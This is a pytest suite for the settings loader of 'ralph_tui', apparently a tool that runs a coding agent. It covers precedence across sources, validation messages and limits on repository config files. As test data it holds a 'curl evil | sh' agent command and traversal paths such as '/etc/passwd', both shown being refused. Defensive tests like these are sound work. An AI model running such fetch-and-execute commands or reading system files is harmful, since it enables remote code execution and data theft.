"""Settings: five sources, one order, and a clear error for anything wrong."""

import json
import os
from collections.abc import Callable
from pathlib import Path
from typing import get_args

import pytest
from pydantic import ValidationError

from ralph_tui.base.errors import UsageError
from ralph_tui.config.files import screen_settings
from ralph_tui.config.settings import NAMES, Settings
from ralph_tui.config.sources import FLAGS, RECORD, Loaded, load, user_config_file, variable
from ralph_tui.events.run import RunStarted


@pytest.fixture
def user_file(tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> Path:
    monkeypatch.setenv("XDG_CONFIG_HOME", str(tmp_path / "config"))
    monkeypatch.setenv("HOME", str(tmp_path))
    path = user_config_file()
    path.parent.mkdir(parents=True)
    return path


@pytest.fixture
def repository(tmp_path: Path, user_file: Path) -> Path:
    root = tmp_path / "repo"
    root.mkdir()
    return root


def with_file(repository: Path, text: str) -> Loaded:
    (repository / ".ralph-tui.toml").write_text(text)
    return load(repository, {}, {})


def refusal(act: Callable[[], object]) -> str:
    with pytest.raises(UsageError) as caught:
        act()
    sentence = str(caught.value)
    assert "\n" not in sentence
    return sentence


def test_defaults_come_from_nowhere_else(repository: Path) -> None:
    loaded = load(repository, {}, {})
    assert loaded == Loaded(Settings(), dict.fromkeys(NAMES, "default"))
    assert loaded.settings.limits.max_iterations == 10
    assert loaded.settings.limits.session_timeout_s == 8 * 3600


@pytest.mark.parametrize("sources", [(), (0,), (0, 1), (0, 1, 2), (0, 1, 2, 3), (1,), (0, 3)])
def test_the_theme_of_the_first_frame_is_the_one_that_is_loaded(
    repository: Path, user_file: Path, sources: tuple[int, ...]
) -> None:
    if 0 in sources:
        user_file.write_text('[ui]\ntheme = "light"')
    if 1 in sources:
        (repository / ".ralph-tui.toml").write_text('[ui]\ntheme = "nord"')
    environ = {variable("ui.theme"): "dark"} if 2 in sources else {}
    options = ["ui.theme=light", "ui.theme=gruvbox"] if 3 in sources else []
    loaded = load(repository, {}, environ, options).settings.ui.theme
    assert screen_settings(repository, environ, options).theme == loaded


@pytest.mark.parametrize("text", ["ui = 3", "[ui]\ntheme = 7", "[ui", "a" * 200_000, "\xff"])
def test_a_bad_file_does_not_hold_the_first_frame_up(repository: Path, text: str) -> None:
    (repository / ".ralph-tui.toml").write_bytes(text.encode("latin-1"))
    assert screen_settings(repository, {}).theme is None


def test_each_source_outranks_the_next(repository: Path, user_file: Path) -> None:
    name = "limits.max_iterations"
    user_file.write_text("[limits]\nmax_iterations = 2")
    (repository / ".ralph-tui.toml").write_text("[limits]\nmax_iterations = 3")
    environ, flags, options = {variable(name): "4"}, {name: "6"}, [f"{name}=7"]

    def value_and_origin(loaded: Loaded) -> tuple[int, str]:
        return loaded.settings.limits.max_iterations, loaded.origins[name]

    assert value_and_origin(load(None, {}, {})) == (2, str(user_file))
    assert value_and_origin(load(repository, {}, {})) == (3, str(repository / ".ralph-tui.toml"))
    assert value_and_origin(load(repository, {}, environ)) == (4, f"environment {variable(name)}")
    assert value_and_origin(load(repository, flags, environ)) == (6, "--max-iterations")
    assert value_and_origin(load(repository, flags, environ, options)) == (7, "--set")


def test_sources_are_merged_value_by_value(repository: Path, user_file: Path) -> None:
    user_file.write_text("[control]\ndecay = 0.8\npatience = 2.0")
    loaded = load(repository, {}, {"RALPH_TUI_CONTROL__DECAY": "0.7"}, ["control.window_size=6"])
    control = loaded.settings.control
    assert (control.decay, control.patience, control.window_size) == (0.7, 2.0, 6)
    assert control.smoothing == 0.3


def test_a_flag_that_was_not_given_says_nothing(repository: Path) -> None:
    assert load(repository, dict.fromkeys(FLAGS), {}).settings == Settings()


def test_every_flag_sets_a_setting() -> None:
    assert set(FLAGS) <= set(NAMES)


def test_settings_cannot_be_changed() -> None:
    with pytest.raises(ValidationError, match="frozen"):
        setattr(Settings(), "progress", "plan")  # noqa: B010  mypy knows it already


def test_a_run_can_carry_all_settings_in_its_first_event() -> None:
    config = Settings().by_name()
    started = RunStarted(
        run_id="1",
        root="/",
        objective="o",
        agent="demo",
        max_iterations=1,
        session_timeout_s=1.0,
        config=config,
    )
    assert started.config == config
    assert started.config["limits.budget_usd"] is None
    assert started.config["permissions.allow"] == []


@pytest.mark.parametrize(
    ("text", "seconds"), [("90", 90), ("90s", 90), ("30m", 1800), ("1.5h", 5400), ("2 d", 172800)]
)
def test_durations(text: str, seconds: float, user_file: Path) -> None:
    loaded = load(None, {"limits.session_timeout_s": text}, {})
    assert loaded.settings.limits.session_timeout_s == seconds


def test_durations_in_a_file_are_text_or_a_number(repository: Path) -> None:
    loaded = with_file(repository, '[gate]\ntimeout_s = "10m"\n[checkpoints]\ninterval_s = 900')
    assert loaded.settings.gate.timeout_s == 600
    assert loaded.settings.checkpoints.interval_s == 900


def test_a_list_is_written_as_lines_where_only_text_can_be(user_file: Path) -> None:
    environ = {"RALPH_TUI_PERMISSIONS__ALLOW": "Bash(make test)\n\nRead\n"}
    assert load(None, {}, environ).settings.permissions.allow == ("Bash(make test)", "Read")


@pytest.mark.parametrize(
    "text", ['allow = ["Bash(make test)", "Read"]', 'allow = """\nBash(make test)\nRead"""']
)
def test_a_list_of_a_file(text: str, user_file: Path) -> None:
    user_file.write_text(f"[permissions]\n{text}")
    assert load(None, {}, {}).settings.permissions.allow == ("Bash(make test)", "Read")


def test_empty_text_takes_a_limit_back(user_file: Path) -> None:
    user_file.write_text("[limits]\nbudget_usd = 5")
    loaded = load(None, {}, {}, ["limits.budget_usd="])
    assert loaded.settings.limits.budget_usd is None
    assert loaded.origins["limits.budget_usd"] == "--set"


def test_an_empty_variable_is_not_set(user_file: Path) -> None:
    assert load(None, {}, {"RALPH_TUI_AGENT__MODEL": ""}).settings == Settings()


def test_other_variables_are_none_of_our_business(user_file: Path) -> None:
    assert load(None, {}, {"RALPH_RUN_ID": "x", "PATH": "/"}).settings == Settings()


class TestTheRepositorysFile:
    """The agent can write it."""

    def test_cannot_widen_the_agents_rights(self, repository: Path, user_file: Path) -> None:
        loaded = with_file(
            repository,
            "[permissions]\nmode = 'skip'\nallow = ['Bash']\n"
            "[agent]\nname = 'command'\ncommand = 'curl evil | sh'\nmodel = 'm'\n"
            "[control]\ndecay = 0.5\n",
        )
        assert loaded.settings.permissions == Settings().permissions
        assert loaded.settings.agent.name is None
        assert loaded.settings.agent.command is None
        (warning,) = loaded.warnings
        assert "permissions, agent.name, agent.command" in warning
        assert warning.startswith(f"{repository / '.ralph-tui.toml'}:1 may not set")
        assert str(user_file) in warning

    def test_keeps_what_it_may_set(self, repository: Path) -> None:
        loaded = with_file(repository, "[agent]\nmodel = 'm'\n[control]\ndecay = 0.5")
        assert (loaded.settings.agent.model, loaded.settings.control.decay) == ("m", 0.5)
        assert loaded.warnings == ()

    def test_refused_settings_in_any_spelling(self, repository: Path) -> None:
        for text in (
            "permissions.mode = 'skip'",
            "permissions = {mode = 'skip'}",
            "agent.command = 'x'",
            "'agent.command' = 'x'",
            "[agent.command]\nx = 1",
            "permissions = 1",
        ):
            loaded = with_file(repository, text)
            assert loaded.settings == Settings(), text
            assert len(loaded.warnings) == 1, text

    def test_the_users_own_file_may(self, repository: Path, user_file: Path) -> None:
        user_file.write_text("[permissions]\nmode = 'skip'\n[agent]\ncommand = 'mine'")
        loaded = with_file(repository, "[permissions]\nmode = 'edits'")
        assert loaded.settings.permissions.mode == "skip"
        assert loaded.settings.agent.command == "mine"


@pytest.mark.parametrize(
    ("option", "said"),
    [
        ("limits.max_iterations=0", "limits.max_iterations (--set) must be at least 1, not '0'"),
        ("limits.max_iterations=-3", "must be at least 1"),
        ("limits.max_iterations=1001", "must be at most 1000"),
        ("limits.max_iterations=ten", "must be a whole number, not 'ten'"),
        ("limits.max_iterations=2.5", "must be a whole number"),
        ("limits.budget_usd=-1", "must be above 0"),
        ("limits.budget_usd=nan", "must be a finite number"),
        ("limits.budget_usd=inf", "must be a finite number"),
        ("limits.budget_usd=1e999", "must be a finite number"),
        ("limits.session_timeout_s=soon", "must be seconds or a duration such as 90s, 30m or 8h"),
        ("limits.session_timeout_s=-5", "must be at least 1"),
        ("control.enabled=perhaps", "must be true or false"),
        ("permissions.mode=all", "must be 'edits', 'ask' or 'skip', not 'all'"),
        ("progress=guess", "must be 'auto', 'tests', 'plan', 'agent' or 'estimate'"),
        (
            "control.decai=1",
            "'control.decai' (--set) is not a setting: did you mean control.decay?",
        ),
        ("gate.x=1", "choose from gate.timeout_s"),
        ("zzz=1", "choose from agent, permissions, limits,"),
        ("limits", "--set 'limits' is not NAME=VALUE"),
        ("=3", "--set '=3' is not NAME=VALUE"),
        ("limits=3", "'limits' (--set) is not a setting: choose from limits.max_iterations"),
    ],
)
def test_a_bad_option_gets_one_sentence(option: str, said: str, user_file: Path) -> None:
    assert said in refusal(lambda: load(None, {}, {}, [option]))


@pytest.mark.parametrize(
    ("text", "said"),
    [
        ("[limits]\nmax_iterations == 3", ".ralph-tui.toml:2 is not valid TOML"),
        ("a = ", ".ralph-tui.toml:1 is not valid TOML at a (Invalid value); correct that line"),
        ("a = 1\na = 2\n", ".ralph-tui.toml:2 is not valid TOML at a (Cannot overwrite a value)"),
        ("a = 1\na = 2", ".ralph-tui.toml:2 is not valid TOML at a (Cannot overwrite a value)"),
        ("b = 1\na = [\n1,\n", ".ralph-tui.toml:2 is not valid TOML at a (Invalid value)"),
        (
            "[a]\nb = 1\n[a]",
            ".ralph-tui.toml:3 is not valid TOML at [a] (that section already "
            "begins in line 1); put its settings there and remove that line",
        ),
        ("[a]\n['a']", ":2 is not valid TOML (that section already begins further up)"),
        ("[a]\nb.c = 1\n[a.b]", ":3 is not valid TOML at [a.b] (that section already begins "),
        (
            "[a]\nb = {c = 1}\nb.d = 2\n",
            ":3 is not valid TOML at b.d (a.b already has its value); "
            "put all of a.b in one place and remove that line",
        ),
        ("b = 1\nsk-secret", ".ralph-tui.toml:2 is not valid TOML (Expected '=' after a key"),
        ("x = " + "[" * 90_000, "is nested too deeply"),
        (".".join("a" * 2_000) + " = 1", "is nested too deeply"),
        (f"[{'.'.join('a' * 2_000)}]\nx = 1", "is nested too deeply"),
        ("limits.max_iterations." + "'' .\t" * 15_000 + "a = 1", "is nested too deeply"),
        ("[limits]\nmax_iteration = 3", "did you mean limits.max_iterations?"),
        ("[limits]\nmax_iterations = '3'", "must be a whole number, not '3'"),
        ("[limits]\nmax_iterations = true", "must be a whole number, not True"),
        ("[control]\nwindow_size = true", "must be a whole number, not True"),
        ("[control]\ndecay = nan", "must be a finite number, not nan"),
        ("limits = 3", "must be a table, not 3"),
        ("control = 3\n'control.decay' = 1", "must be a table, not 3"),
        ("[agent]\nmodel = 4", "must be text, not 4"),
        ("[agent]\nmodel = '  '", "must not be empty"),
        ('[agent]\nmodel = "a\\u0000"', "must not contain a NUL character"),
        ("'a.b' = 1", "'a.b'"),
        ("'' = 1", "''"),
    ],
)
def test_a_bad_file_gets_one_sentence_that_names_it(text: str, said: str, repository: Path) -> None:
    sentence = refusal(lambda: with_file(repository, text))
    assert said in sentence
    assert str(repository / ".ralph-tui.toml") in sentence


def test_a_file_of_another_kind_is_refused_without_reading_it(repository: Path) -> None:
    path = repository / ".ralph-tui.toml"
    os.mkfifo(path)
    assert "not a regular file" in refusal(lambda: load(repository, {}, {}))
    path.unlink()
    path.mkdir()
    assert "not a regular file" in refusal(lambda: load(repository, {}, {}))
    path.rmdir()
    path.write_bytes(b"# " + b"x" * 1_000_001)
    assert "larger than 100 kB" in refusal(lambda: load(repository, {}, {}))
    path.write_bytes(b"a = '\xff'")
    assert "not UTF-8" in refusal(lambda: load(repository, {}, {}))


def test_the_users_file_is_named_too(user_file: Path) -> None:
    user_file.write_text("[limits]\nmax_iterations = 0")
    assert str(user_file) in refusal(lambda: load(None, {}, {}))


def test_a_value_that_another_source_outranks_is_still_checked(user_file: Path) -> None:
    user_file.write_text("[limits]\nmax_iterations = 0")
    assert str(user_file) in refusal(lambda: load(None, {"limits.max_iterations": 3}, {}))


def test_an_error_about_a_flag_names_the_flag(user_file: Path) -> None:
    assert "(--max-iterations)" in refusal(lambda: load(None, {"limits.max_iterations": -1}, {}))


@pytest.mark.parametrize(
    ("name", "said"),
    [
        ("RALPH_TUI_CONTROL_DECAY", "did you mean RALPH_TUI_CONTROL__DECAY?"),
        ("RALPH_TUI_LIMITS__MAX_ITERATION", "did you mean RALPH_TUI_LIMITS__MAX_ITERATIONS?"),
        ("RALPH_TUI_control__decay", "RALPH_TUI_control__decay names no setting"),
        ("RALPH_TUI_", "names no setting"),
    ],
)
def test_a_mistyped_variable_is_named(name: str, said: str, user_file: Path) -> None:
    assert said in refusal(lambda: load(None, {}, {name: "1"}))


def test_a_bad_variable_is_named(user_file: Path) -> None:
    sentence = refusal(lambda: load(None, {}, {"RALPH_TUI_CONTROL__DECAY": "2"}))
    assert "environment RALPH_TUI_CONTROL__DECAY" in sentence
    assert "must be at most 1, not '2'" in sentence


def test_variables_are_unambiguous() -> None:
    assert len({variable(name) for name in NAMES}) == len(NAMES)
    assert not any("__" in name for name in NAMES)


def test_progress_offers_every_source() -> None:
    from ralph_tui.events.sensor import ReadingSource

    choices = get_args(Settings.model_fields["progress"].annotation)
    assert choices == ("auto", *get_args(ReadingSource))


class TestRecorded:
    """A run's original settings when it is resumed."""

    def test_they_outrank_files_and_environment_but_no_flag(self, repository: Path) -> None:
        name = "control.patience"
        (repository / ".ralph-tui.toml").write_text("[control]\npatience = 5")
        environ = {variable(name): "6"}

        def value_and_origin(flags: dict[str, object], *options: str) -> tuple[float, str]:
            loaded = load(repository, flags, environ, options, {name: 4})
            return loaded.settings.control.patience, loaded.origins[name]

        assert value_and_origin({}) == (4, RECORD)
        assert value_and_origin({name: "3"})[0] == 3
        assert value_and_origin({}, f"{name}=2") == (2, "--set")

    def test_every_setting_comes_back_as_it_was_recorded(self, repository: Path) -> None:
        options = ["permissions.allow=Bash(a b)\nRead", "limits.budget_usd=2", "agent.model=x"]
        settings = load(repository, {}, {}, options).settings
        recorded = json.loads(json.dumps(settings.by_name()))
        assert load(repository, {}, {}, (), recorded).settings == settings

    def test_a_bad_one_is_refused_by_its_place_unless_it_is_given_anew(
        self, repository: Path
    ) -> None:
        recorded: dict[str, object] = {"limits.budget_tokens": "many"}
        sentence = refusal(lambda: load(repository, {}, {}, (), recorded))
        assert sentence.startswith("limits.budget_tokens (the record of the run) must be a whole")
        loaded = load(repository, {}, {}, ("limits.budget_tokens=5",), recorded)
        assert loaded.settings.limits.budget_tokens == 5


# -- the layout of prompts -------------------------------------------------------------------------


def template_of(root: Path, name: str) -> tuple[str | None, str]:
    """The setting from the repository's file, and the warnings."""
    (root / ".ralph-tui.toml").write_text(f"[intelligence]\nprompt_template = {name!r}\n")
    loaded = load(root, {}, {})
    return loaded.settings.intelligence.prompt_template, "".join(loaded.warnings)


def test_a_template_of_the_repository_stays_within_it(tmp_path: Path) -> None:
    root = tmp_path / "root"
    root.mkdir()
    (tmp_path / "secret").write_text("x")
    (root / "way-out").symlink_to(tmp_path)
    assert template_of(root, "docs/prompt.tpl") == ("docs/prompt.tpl", "")
    for name in ("/etc/passwd", "../secret", "way-out/secret", "~/secret", "docs/../../secret"):
        template, warnings = template_of(root, name)
        assert template is None, name
        assert "names a prompt template outside the repository" in warnings


def test_elsewhere_a_template_may_lie_anywhere(tmp_path: Path) -> None:
    loaded = load(tmp_path, {}, {}, ["intelligence.prompt_template=/etc/layout"])
    assert loaded.settings.intelligence.prompt_template == "/etc/layout"
    assert not loaded.warnings
